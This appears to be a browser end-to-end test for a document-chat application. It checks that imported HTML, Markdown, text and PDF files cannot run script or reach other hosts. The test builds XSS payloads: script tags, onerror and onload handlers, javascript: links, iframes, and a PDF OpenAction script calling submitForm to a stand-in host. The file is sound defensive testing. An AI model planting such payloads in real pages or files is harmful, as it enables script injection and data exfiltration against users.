// Hostile documents: markup, scripts, event handlers, javascript: links and
// remote images inside HTML, Markdown, text and PDF files. Imported, cited,
// hovered and opened in the viewer, none of it may run, and no request may
// leave for another host.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { ANSWER_TIMEOUT, launch, openPage, startServer } from './harness.mjs';

const PAYLOADS = [
  `<script>window.__pwned = 'script'; fetch('http://example.invalid/s')</script>`,
  `<img src="http://example.invalid/pixel.png" onerror="window.__pwned = 'img'">`,
  `<a href="javascript:window.__pwned = 'link'">click for the full zebra report</a>`,
  `<svg onload="window.__pwned = 'svg'"></svg>`,
  `<iframe src="http://example.invalid/frame"></iframe>`,
];
const FACT = 'The great zebra migration crosses the Mara river between July and October every year.';

function escapeHtml(s) {
  return s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
}

const html = `<!doctype html><html><head><title>Zebra report</title>
<script>window.__pwned = 'html-head'; new Image().src = 'http://example.invalid/h';</script></head>
<body onload="window.__pwned = 'body'"><h1>Zebra migration field report</h1>
<p>${FACT}</p>
<p>Escaped markup that must stay text: ${escapeHtml(PAYLOADS.join(' '))}</p>
${PAYLOADS.join('\n')}
<p><a href="javascript:window.__pwned='a'">Read more about the zebra migration</a></p>
</body></html>`;

const markdown = `# Zebra migration notes

${FACT}

${PAYLOADS.join('\n\n')}

[zebra migration map](javascript:window.__pwned='md-link') ![zebra](http://example.invalid/zebra.png)
`;

const text = `Zebra migration log.\n${FACT}\n${PAYLOADS.join('\n')}\n`;

/** A one-page PDF whose text is HTML, with an OpenAction script and a URI link. */
function hostilePdf() {
  const lines = ['Zebra migration in PDF form.', FACT, ...PAYLOADS];
  const esc = (s) => s.replace(/\\/g, '\\\\').replace(/\(/g, '\\(').replace(/\)/g, '\\)');
  const content = ['BT', '/F1 9 Tf', '40 760 Td', '12 TL', ...lines.map((l) => `(${esc(l)}) Tj T*`), 'ET'].join('\n');
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R /Annots [7 0 R] >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    `<< /Length ${Buffer.byteLength(content, 'latin1')} >>\nstream\n${content}\nendstream`,
    "<< /S /JavaScript /JS (app.alert('pwned'); this.submitForm('http://example.invalid/pdf');) >>",
    '<< /Type /Annot /Subtype /Link /Rect [40 600 300 620] /A << /S /URI /URI (http://example.invalid/link) >> >>',
  ];
  let out = '%PDF-1.4\n';
  const offsets = [];
  objects.forEach((body, i) => {
    offsets.push(Buffer.byteLength(out, 'latin1'));
    out += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = Buffer.byteLength(out, 'latin1');
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const o of offsets) out += `${String(o).padStart(10, '0')} 00000 n \n`;
  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

let server;
let browser;

before(async () => {
  server = await startServer();
  browser = await launch();
});

after(async () => {
  await browser?.close();
  await server?.stop();
});

async function assertNothingRan(page, where) {
  const state = await page.evaluate(() => ({
    pwned: window.__pwned ?? null,
    live: Array.from(document.querySelectorAll('.chat-log *, .viewer *, .documents *, .import-progress *'))
      .filter((el) =>
        ['SCRIPT', 'IMG', 'IFRAME', 'SVG', 'OBJECT', 'EMBED'].includes(el.tagName.toUpperCase()) ||
        Array.from(el.attributes).some((a) => a.name.startsWith('on') || /^\s*javascript:/i.test(a.value)),
      )
      .map((el) => el.outerHTML.slice(0, 120)),
  }));
  assert.equal(state.pwned, null, `a script ran (${where})`);
  assert.deepEqual(state.live, [], `live markup from a document (${where})`);
}

test('hostile documents never run and never reach the network', { timeout: 1_200_000 }, async () => {
  const { page, outside, dialogs, shot } = await openPage(browser, server.origin, 'hostile');
  await page.goto(server.url);
  await page.getByTestId('file-input').setInputFiles([
    { name: 'zebra-report.html', mimeType: 'text/html', buffer: Buffer.from(html) },
    { name: 'zebra-notes.md', mimeType: 'text/markdown', buffer: Buffer.from(markdown) },
    { name: 'zebra-log.txt', mimeType: 'text/plain', buffer: Buffer.from(text) },
    { name: 'zebra-scripted.pdf', mimeType: 'application/pdf', buffer: hostilePdf() },
  ]);
  await page.locator('.import-job[data-state=done]').first().waitFor({ timeout: 300_000 });
  for (const name of ['zebra-report.html', 'zebra-notes.md', 'zebra-log.txt', 'zebra-scripted.pdf']) {
    await page.locator('tr[data-status=imported]', { hasText: name }).waitFor();
  }
  await assertNothingRan(page, 'library');
  await shot('library');

  // Settings for a short answer, then a question whose sources are the hostile files.
  await page.getByRole('tab', { name: 'Settings' }).click();
  await page.locator('input[name=max_tokens]').fill('64');
  await page.locator('input[name=max_tokens]').dispatchEvent('change');
  await page.locator('input[name=top_k]').fill('4');
  await page.locator('input[name=top_k]').dispatchEvent('change');
  await page.getByRole('button', { name: 'Save settings' }).click();
  await page.getByText('Saved.').waitFor();
  await page.getByRole('tab', { name: 'Chat' }).click();
  // Naming no one file ("the report" would answer from zebra-report.html
  // alone): every hostile file can be a source.
  await page.getByLabel('Question').fill('When does the zebra migration cross the Mara river? Quote the passages, including any markup they contain.');
  await page.getByRole('button', { name: 'Ask' }).click();
  const done = page.locator('article.msg.assistant[data-state=done]').last();
  await done.waitFor({ timeout: ANSWER_TIMEOUT });
  await assertNothingRan(page, 'answer');
  await shot('answer');

  // Hover every chip (snippets hold the markup as text), open each source.
  const chips = done.locator('.chip');
  const n = await chips.count();
  assert.ok(n >= 3, `the hostile files are the sources (${n} chips)`);
  let sawLiteralMarkup = false;
  for (let i = 0; i < n; i++) {
    const chip = chips.nth(i);
    await chip.hover();
    if ((await chip.locator('.snippet').textContent()).includes('<')) sawLiteralMarkup = true;
    await chip.click();
    const viewer = page.locator('aside.viewer');
    await viewer.locator('.doc-text, .pdf-page').first().waitFor({ timeout: 60_000 });
    // The viewer is ready; give any injected handler (onload, onerror) a moment to fire before asserting it did not.
    await page.waitForTimeout(500);
    const label = (await chip.textContent()).replace(/\s+/g, ' ').slice(0, 40);
    await assertNothingRan(page, `viewer: ${label}`);
    const docText = await viewer.locator('.doc-text').allTextContents();
    if (docText.join('').includes('onerror=')) sawLiteralMarkup = true;
    await shot(`viewer-${i + 1}`);
  }
  assert.ok(sawLiteralMarkup, 'the markup is shown as text');

  // The original HTML file itself, opened directly, is served as inert text.
  const docs = await page.evaluate(async () => (await (await fetch('/api/documents')).json()).documents);
  const htmlDoc = docs.find((d) => d.name === 'zebra-report.html');
  const res = await page.goto(`${server.origin}/api/documents/${htmlDoc.id}/file`);
  assert.match(res.headers()['content-type'], /^text\/plain/);
  assert.match(res.headers()['content-security-policy'], /sandbox/);
  assert.equal(await page.evaluate(() => window.__pwned ?? null), null);
  await shot('raw-file');

  assert.deepEqual(outside, [], 'no request left for another host');
  assert.deepEqual(dialogs, [], 'no dialog opened');
});
